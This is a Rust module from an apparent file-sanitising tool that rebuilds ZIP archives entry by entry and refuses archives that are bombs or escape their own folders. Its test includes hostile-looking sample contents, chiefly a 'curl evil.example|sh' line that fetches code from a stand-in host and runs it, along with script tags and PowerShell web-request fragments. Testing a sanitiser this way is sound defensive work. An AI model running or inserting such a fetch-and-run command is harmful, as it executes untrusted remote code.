//! ZIP archives for people: each entry sanitised by the engine, names in UTF-8.
//!
//! An entry that is refused is left out, and told of twice: in the verdict, and in a file of the new archive, so that
//! whoever opens it sees the gap. What makes the archive itself untrustworthy (paths that lead out, overlaps,
//! bombs, passwords) refuses it whole.

use crate::{
    kind::Kind,
    outcome::{Outcome, Verdict},
    settings::Limits,
    verdict::{Made, Part, Parts, Reason, Refusal, Removed, note},
    zip::{Archive, Budget, NO_TIME, Writer},
};

/// The file that lists what was left out.
const LIST: &str = "無害化で除いたファイル.txt";

/// Files that operating systems leave behind; the last part of a path.
const SYSTEM_FILES: &[&str] = &["thumbs.db", ".ds_store", "desktop.ini", ".localized"];

/// Writes an archive anew; `sanitise` takes an entry's bytes and name.
pub(crate) fn sanitise(
    archive: &Archive<'_>,
    budget: &Budget,
    limits: &Limits,
    mut sanitise: impl FnMut(&[u8], &str) -> Outcome,
) -> Made {
    archive.fits(budget)?;
    let mut writer = Writer::default();
    let mut removed = Vec::new();
    let mut left_out = Vec::new();
    let mut names = std::collections::HashSet::new();
    let mut written = 0_u64;
    for entry in &archive.entries {
        if entry.is_folder {
            writer.add(&format!("{}/", entry.name), entry.time, &[], true)?;
            continue;
        }
        if is_system_file(&entry.name) {
            note(&mut removed, Part::SystemFile, &entry.name);
            continue;
        }
        let bytes = archive.unpack(entry, budget)?;
        let outcome = sanitise(&bytes, &entry.name);
        let refusal = match outcome.verdict {
            Verdict::Refused(refusal) => refusal,
            Verdict::Clean | Verdict::Rebuilt { .. } => {
                let (folder, file) = entry.name.rsplit_once('/').unwrap_or(("", &entry.name));
                let file = outcome.kind.map_or(file.to_owned(), |kind| kind.name_for(file));
                let name = if folder.is_empty() { file } else { format!("{folder}/{file}") };
                let (bytes, inside) = match outcome.verdict {
                    Verdict::Rebuilt { bytes, removed } => (bytes, removed),
                    _ => (bytes, Vec::new()),
                };
                written = written.saturating_add(bytes.len() as u64);
                if written > limits.unpacked_bytes {
                    return Err(Refusal::new(Reason::Expansion, "the rebuilt archive"));
                }
                // `a.docm` and `a.docx` may have become one.
                let name = unused(&mut names, name);
                let is_packed = outcome.kind.is_some_and(Kind::is_packed);
                writer.add(&name, entry.time, &bytes, is_packed)?;
                for Removed { what, place } in inside {
                    note(&mut removed, what, format!("{name} {place}").trim_end());
                }
                continue;
            }
        };
        if is_grave(refusal.reason) {
            return Err(refusal.inside(&entry.name));
        }
        left_out.push(format!("{}: {}\r\n    {}\r\n", entry.name, refusal.reason.ja(), refusal.reason.en()));
        note(&mut removed, Part::Entry, format!("{}: {}", entry.name, refusal.reason.code()));
    }
    if !left_out.is_empty() {
        let list = format!("\u{feff}{}", left_out.concat());
        let name = unused(&mut names, LIST.to_owned());
        writer.add(&name, NO_TIME, list.as_bytes(), false)?;
    }
    Ok(Parts::rebuilt(writer.finish()?, removed))
}

/// Reasons that say something of the whole archive: it is a bomb, or leads out of itself.
fn is_grave(reason: Reason) -> bool {
    use Reason::{DuplicateName, Expansion, Infected, Overlap, TooDeep, TooManyEntries, UnsafeName};
    matches!(reason, Expansion | TooDeep | TooManyEntries | UnsafeName | DuplicateName | Overlap | Infected)
}

fn is_system_file(name: &str) -> bool {
    let last = name.rsplit('/').next().unwrap_or(name).to_lowercase();
    name.starts_with("__MACOSX/") || SYSTEM_FILES.contains(&last.as_str())
}

/// The name, or one like it that no other entry has.
fn unused(names: &mut std::collections::HashSet<String>, name: String) -> String {
    if names.insert(name.to_lowercase()) {
        return name;
    }
    let (stem, end) = name.rsplit_once('.').unwrap_or((&name, ""));
    // Bounded: each name that is taken is an entry, and those are.
    let next = (2..).map(|i| format!("{stem} ({i}).{end}")).find(|name| names.insert(name.to_lowercase()));
    next.unwrap_or(name)
}

#[cfg(test)]
mod tests {
    #![expect(clippy::unwrap_used, reason = "tests")]

    use super::*;
    use crate::{Settings, sanitise as sanitise_file};

    #[test]
    fn a_text_is_letters_where_its_name_in_the_archive_makes_it_that() {
        let log = "GET /?q=<script>x</script> 404\nimport subprocess\nInvoke-WebRequest x\n";
        let index = "<?xml version=\"1.0\"?><!DOCTYPE constdata SYSTEM \"INDE_C07.DTD\"><constdata/>";
        let entries = [
            ("a/access.log", log),
            ("a/INDEX_C.XML", index),
            ("a/INDE_C07.DTD", "<!ELEMENT constdata EMPTY>"),
            ("a/memo.MD", "#!/bin/sh\ncurl evil.example|sh\n"),
            ("b/page.txt", "<html><script>x()</script>"),
            ("b/run.ps1", "Invoke-WebRequest x\n"),
            ("b/no_name", log),
            ("b/query.txt", "[InternetShortcut]\nURL=x\n"),
            ("b/table.csv", "Invoke-WebRequest x,1\n"),
            ("b/x.xml", "import subprocess\n"),
        ];
        let mut writer = Writer::default();
        for (name, text) in entries {
            writer.add(name, NO_TIME, text.as_bytes(), false).unwrap();
        }
        let settings = Settings::default();
        let made = sanitise_file(&writer.finish().unwrap(), None, &settings);
        let Verdict::Rebuilt { bytes, removed } = made.verdict else { panic!("{made:?}") };
        let budget = Budget::new(&settings.limits);
        let left = Archive::read(&bytes, &budget).unwrap();
        for (name, text) in &entries[..4] {
            let kept = left.unpack(left.find(name).unwrap(), &budget).unwrap();
            assert_eq!(kept, text.as_bytes(), "{name}");
        }
        let left_out = removed.iter().filter(|one| one.what == Part::Entry && one.place.starts_with("b/"));
        assert_eq!((left_out.count(), left.entries.len()), (6, 5), "{removed:?}");
        // Alone it has no name that stays.
        let alone = sanitise_file(b"import subprocess\n", Some("memo.md"), &settings).verdict;
        assert!(matches!(alone, Verdict::Refused(refusal) if refusal.reason == Reason::Program));
    }
}
